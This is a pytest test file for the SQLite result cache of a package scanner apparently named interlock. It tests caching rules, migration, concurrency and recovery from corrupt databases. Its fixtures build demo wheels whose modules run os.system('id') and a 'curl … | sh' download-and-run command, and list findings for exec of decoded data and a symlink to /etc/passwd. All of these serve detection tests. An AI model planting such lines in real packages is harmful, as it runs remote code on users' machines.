"""The result cache: real SQLite files in tmp_path, never the user's cache directory."""

from __future__ import annotations

import sqlite3
import threading
import warnings
from pathlib import Path

import pytest

from interlock.artifact.limits import Limits
from interlock.demo.wheel import wheel_bytes, wheel_filename
from interlock.model.findings import Finding, Severity
from interlock.model.result import ScanResult
from interlock.model.verdict import Verdict
from interlock.scanner import Scanner, ScanOptions
from interlock.store import ResultCache, StoreWarning, default_cache_path, is_cacheable

RULESET = "2026.11.28.1"
SHA = "ab" * 32


def result(
    sha256: str | None = SHA, *, verdict: Verdict = Verdict.SUSPICIOUS, error: str | None = None, ruleset: str = RULESET
) -> ScanResult:
    findings = [
        Finding(
            "decoded-exec",
            Severity.CRITICAL,
            "pkg/__init__.py",
            3,
            "exec of decoded data",
            "exec(b64decode(…))",
            when="import",
        ),
        Finding("archive-link", Severity.MEDIUM, "pkg/link", None, "symbolic link to '/etc/passwd'", "pkg/link"),
    ]
    return ScanResult(
        target="demo-1.0-py3-none-any.whl",
        filename="demo-1.0-py3-none-any.whl",
        name="demo",
        version="1.0",
        sha256=sha256,
        verdict=verdict,
        score=42,
        findings=findings if verdict is not Verdict.ERROR else [],
        error=error,
        ruleset=ruleset,
        seconds=1.25,
    )


@pytest.fixture
def cache(tmp_path: Path) -> ResultCache:
    with ResultCache(tmp_path / "results.sqlite3") as opened:
        yield opened


# -- round trips ---------------------------------------------------------------------------


def test_round_trip_keeps_findings_and_relabels_the_target(cache: ResultCache) -> None:
    stored = result()
    cache.put(stored)
    found = cache.get(SHA, RULESET, "demo==1.0")
    assert found is not None
    assert found.cached is True
    assert found.target == "demo==1.0"
    assert found.ruleset == RULESET
    assert found.seconds == pytest.approx(1.25)
    assert (found.verdict, found.score, found.sha256, found.name, found.version) == (
        stored.verdict,
        42,
        SHA,
        "demo",
        "1.0",
    )
    assert found.findings == stored.findings


def test_a_different_ruleset_or_digest_misses(cache: ResultCache) -> None:
    cache.put(result())
    assert cache.get(SHA, "2026.11.29.1", "t") is None
    assert cache.get("cd" * 32, RULESET, "t") is None


def test_digest_lookup_ignores_case(cache: ResultCache) -> None:
    cache.put(result(SHA.upper()))
    assert cache.get(SHA, RULESET, "t") is not None


def test_results_survive_reopening(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "er" / "results.sqlite3"
    with ResultCache(path) as first:
        first.put(result())
    with ResultCache(path) as second:
        assert second.get(SHA, RULESET, "t") is not None


def test_put_replaces_an_earlier_result(cache: ResultCache) -> None:
    cache.put(result(verdict=Verdict.SUSPICIOUS))
    cache.put(result(verdict=Verdict.MALICIOUS))
    found = cache.get(SHA, RULESET, "t")
    assert found is not None and found.verdict is Verdict.MALICIOUS
    assert cache.stats().entries == 1


# -- what is cached --------------------------------------------------------------------------


def test_time_limit_errors_are_not_cached(cache: ResultCache) -> None:
    cache.put(result(verdict=Verdict.ERROR, error="analysis took longer than 120 s"))
    assert cache.get(SHA, RULESET, "t") is None


def test_size_and_count_limit_errors_are_not_cached(cache: ResultCache) -> None:
    # They depend on the configured Limits, which are not part of the key.
    cache.put(result(verdict=Verdict.ERROR, error="more than 100000 archive entries"))
    cache.put(result("cd" * 32, verdict=Verdict.ERROR, error="more than 2048 MiB uncompressed in total"))
    assert cache.stats().entries == 0


def test_no_error_is_cached_not_even_a_corrupt_archive(cache: ResultCache) -> None:
    # An error means the bytes were not judged: the next scan must judge them again.
    cache.put(result(verdict=Verdict.ERROR, error="corrupt or truncated archive: BadZipFile: File is not a zip file"))
    assert cache.get(SHA, RULESET, "t") is None
    assert cache.stats().entries == 0


def test_an_error_an_older_interlock_stored_is_never_served(cache: ResultCache) -> None:
    cache.put(result())
    with sqlite3.connect(cache.path) as connection:
        connection.execute("UPDATE scan_results SET verdict = 'error'")
    assert cache.get(SHA, RULESET, "t") is None
    cache.put(result(verdict=Verdict.MALICIOUS))  # the retry's verdict replaces it
    found = cache.get(SHA, RULESET, "t")
    assert found is not None and found.verdict is Verdict.MALICIOUS


def test_results_without_a_digest_or_already_cached_are_not_stored(cache: ResultCache) -> None:
    cache.put(result(None))
    again = result()
    again.cached = True
    cache.put(again)
    assert cache.stats().entries == 0
    assert not is_cacheable(result(ruleset=""))


# -- housekeeping ----------------------------------------------------------------------------


def test_clear_and_stats(cache: ResultCache) -> None:
    cache.put(result("01" * 32))
    cache.put(result("02" * 32, verdict=Verdict.MALICIOUS))
    cache.put(result("02" * 32, ruleset="2027.1.1.1"))
    stats = cache.stats()
    assert stats.entries == 3
    assert stats.by_ruleset == {RULESET: 2, "2027.1.1.1": 1}
    assert stats.by_verdict == {"suspicious": 2, "malicious": 1}
    assert stats.size_bytes > 0
    assert stats.path == cache.path
    assert cache.clear() == 3
    assert cache.stats().entries == 0
    assert cache.get("01" * 32, RULESET, "t") is None


def test_database_uses_wal_and_records_its_schema_version(cache: ResultCache) -> None:
    cache.put(result())
    with sqlite3.connect(cache.path) as connection:
        assert connection.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert connection.execute("SELECT version FROM schema_version").fetchall() == [(1,)]


def test_default_path_is_under_the_user_cache_dir(isolated_cache: Path) -> None:
    # conftest points XDG_CACHE_HOME at a temporary directory.
    path = default_cache_path()
    assert path.name == "results.sqlite3" and path.is_relative_to(isolated_cache)
    with ResultCache() as cache:
        cache.put(result())
        assert path.exists()


def test_the_first_unversioned_cache_is_migrated(tmp_path: Path) -> None:
    path = tmp_path / "results.sqlite3"
    with sqlite3.connect(path) as connection:
        connection.executescript(
            "CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL);"
            "CREATE TABLE results (sha256 TEXT, ruleset TEXT, result TEXT, seconds REAL, created_at REAL);"
        )
    connection.close()
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with ResultCache(path) as cache:
            cache.put(result())
            assert cache.get(SHA, RULESET, "t") is not None


def test_a_row_this_version_cannot_read_is_a_miss(cache: ResultCache) -> None:
    cache.put(result())
    with sqlite3.connect(cache.path) as connection:
        connection.execute('UPDATE scan_results SET result = \'{"not": "a result"}\'')
    connection.close()
    assert cache.get(SHA, RULESET, "t") is None


# -- concurrency -----------------------------------------------------------------------------


def _write_many(cache: ResultCache, prefix: str, count: int, errors: list[BaseException]) -> None:
    try:
        for number in range(count):
            cache.put(result(f"{prefix}{number:062x}"))
            assert cache.get(f"{prefix}{number:062x}", RULESET, "t") is not None
    except BaseException as exc:
        errors.append(exc)


def test_two_threads_share_one_cache(cache: ResultCache) -> None:
    errors: list[BaseException] = []
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        threads = [threading.Thread(target=_write_many, args=(cache, prefix, 150, errors)) for prefix in ("a1", "b2")]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
    assert not errors
    assert cache.stats().entries == 300


def test_two_caches_on_one_file_write_from_two_threads(tmp_path: Path) -> None:
    # Two connections, as two scanner processes would have: WAL and the busy timeout make them wait, not fail.
    path = tmp_path / "results.sqlite3"
    caches = [ResultCache(path), ResultCache(path)]
    errors: list[BaseException] = []
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        threads = [
            threading.Thread(target=_write_many, args=(c, prefix, 150, errors))
            for c, prefix in zip(caches, ("c3", "d4"), strict=True)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
    assert not errors
    assert caches[0].stats().entries == 300
    for opened in caches:
        opened.close()


# -- damage never stops a scan ---------------------------------------------------------------


def _aside(path: Path) -> list[Path]:
    return sorted(path.parent.glob(path.name + ".corrupt-*"))


def test_a_file_that_is_not_a_database_is_moved_aside(tmp_path: Path) -> None:
    path = tmp_path / "results.sqlite3"
    path.write_bytes(b"this is not SQLite\n" * 500)
    with pytest.warns(StoreWarning, match="corrupt database.*moved aside"), ResultCache(path) as cache:
        assert cache.get(SHA, RULESET, "t") is None
        cache.put(result())
        assert cache.get(SHA, RULESET, "t") is not None
    moved = [p for p in _aside(path) if not p.name.endswith(("-wal", "-shm"))]
    assert len(moved) == 1 and moved[0].read_bytes().startswith(b"this is not SQLite")


def test_a_truncated_database_is_recovered(tmp_path: Path) -> None:
    path = tmp_path / "results.sqlite3"
    with ResultCache(path) as cache:
        for number in range(300):
            cache.put(result(f"{number:064x}"))
    _checkpoint(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    with pytest.warns(StoreWarning, match="corrupt"), ResultCache(path) as cache:
        cache.stats()  # reads every page: the damage is found here if not on open
        cache.put(result())
        assert cache.get(SHA, RULESET, "t") is not None
    assert _aside(path)


def test_damage_found_after_opening_is_recovered(tmp_path: Path) -> None:
    path = tmp_path / "results.sqlite3"
    cache = ResultCache(path)
    for number in range(300):
        cache.put(result(f"{number:064x}"))
    cache.close()
    _checkpoint(path)
    # Keep pages 1 and 2 (schema, schema_version) so opening succeeds; scramble the results' pages.
    data = bytearray(path.read_bytes())
    page = int.from_bytes(data[16:18], "big")
    data[2 * page :] = bytes((i * 7 + 13) % 256 for i in range(len(data) - 2 * page))
    path.write_bytes(bytes(data))
    probe = sqlite3.connect(path)
    assert probe.execute("SELECT version FROM schema_version").fetchone() == (1,)
    with pytest.raises(sqlite3.DatabaseError):
        probe.execute("SELECT count(*) FROM scan_results WHERE seconds >= 0").fetchone()
    probe.close()
    with pytest.warns(StoreWarning, match="corrupt"):
        assert cache.get(f"{5:064x}", RULESET, "t") is None
    cache.put(result())
    assert cache.get(SHA, RULESET, "t") is not None
    cache.close()
    assert _aside(path)


def test_an_unusable_location_means_no_cache_not_a_crash(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-directory"
    blocker.write_text("a file where the cache directory should be")
    with pytest.warns(StoreWarning, match="carrying on without it"):
        cache = ResultCache(blocker / "results.sqlite3")
        assert cache.get(SHA, RULESET, "t") is None
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # warned once; later calls stay quiet
        cache.put(result())
        assert cache.clear() == 0
        assert cache.stats().entries == 0


def test_a_database_from_a_newer_interlock_is_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "results.sqlite3"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE schema_version (version INTEGER NOT NULL)")
        connection.execute("INSERT INTO schema_version VALUES (99)")
    connection.close()
    with pytest.warns(StoreWarning, match="newer"), ResultCache(path) as cache:
        cache.put(result())
        assert cache.get(SHA, RULESET, "t") is None
    assert not _aside(path)
    with sqlite3.connect(path) as connection:
        assert connection.execute("SELECT version FROM schema_version").fetchall() == [(99,)]
    connection.close()


def _checkpoint(path: Path) -> None:
    """Fold the write-ahead log into the main file so damaging the file damages the data."""
    connection = sqlite3.connect(path)
    connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    connection.close()


# -- with the scanner ------------------------------------------------------------------------


def test_the_scanner_answers_a_second_scan_from_the_cache(tmp_path: Path) -> None:
    artifact = tmp_path / wheel_filename("demo", "1.0")
    artifact.write_bytes(wheel_bytes("demo", "1.0", {"demo/__init__.py": "import os\nos.system('id')\n"}))
    cache = ResultCache(tmp_path / "results.sqlite3")
    scanner = Scanner(ScanOptions(cache=cache))
    first = scanner.scan_file(artifact, "first")
    second = scanner.scan_file(artifact, "second")
    assert not first.cached and second.cached
    assert second.target == "second"
    assert (second.verdict, second.findings) == (first.verdict, first.findings)
    cache.close()


def test_a_report_made_under_other_limits_is_not_reused(tmp_path: Path) -> None:
    # Under small limits the module is too large to keep whole and its payload lies beyond the
    # excerpt; the report made from that excerpt must not answer for a scan that reads it whole.
    module = (
        "".join(f"value_{n} = compute({n})\n" for n in range(20_000))
        + "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
    )
    paths = []
    for other in ("a", "b"):  # two releases (two sha256) sharing the large module byte for byte
        path = tmp_path / other / wheel_filename("demo", "1.0")
        path.parent.mkdir()
        path.write_bytes(wheel_bytes("demo", "1.0", {"demo/__init__.py": module, f"demo/{other}.py": ""}))
        paths.append(path)
    small = Limits(max_kept_bytes=64 * 1024, max_excerpt_bytes=128 * 1024)
    first = Scanner(ScanOptions(limits=small, cache_dir=tmp_path / "cache")).scan_file(paths[0], "small")
    second = Scanner(ScanOptions(cache_dir=tmp_path / "cache")).scan_file(paths[1], "default")
    assert "source-not-judged" in {f.rule for f in first.findings} and first.verdict is Verdict.SUSPICIOUS
    assert "shell-download" in {f.rule for f in second.findings} and second.verdict is Verdict.MALICIOUS
    # The time budget decides whether an analysis finishes, not what it says: it is not part of the key.
    assert Limits(max_seconds=5).content_digest() == Limits().content_digest() != small.content_digest()
